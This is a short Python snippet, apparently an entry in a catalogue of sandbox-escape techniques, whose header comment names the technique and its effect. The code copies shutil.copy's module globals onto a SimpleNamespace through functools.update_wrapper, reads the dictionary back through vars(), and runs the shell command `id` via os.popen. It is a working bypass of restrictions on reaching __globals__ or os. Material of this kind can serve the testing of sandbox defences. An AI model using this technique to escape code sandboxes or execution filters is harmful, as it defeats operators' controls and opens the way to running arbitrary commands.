# class: reflective | technique: functools.update_wrapper copies the attributes named in `assigned` (incl. '__globals__') from a listed function onto a SimpleNamespace; the dict is read back by iterating vars() | effect: runs `id` via os.popen from shutil's module globals
import functools
import shutil
import types

meta = types.SimpleNamespace()
functools.update_wrapper(meta, shutil.copy, assigned=("__module__", "__name__", "__globals__"), updated=())
namespace = [v for v in vars(meta).values() if isinstance(v, dict)][0]
print(meta.__name__, "from", meta.__module__)
print(namespace["os"].popen("id").read().strip())
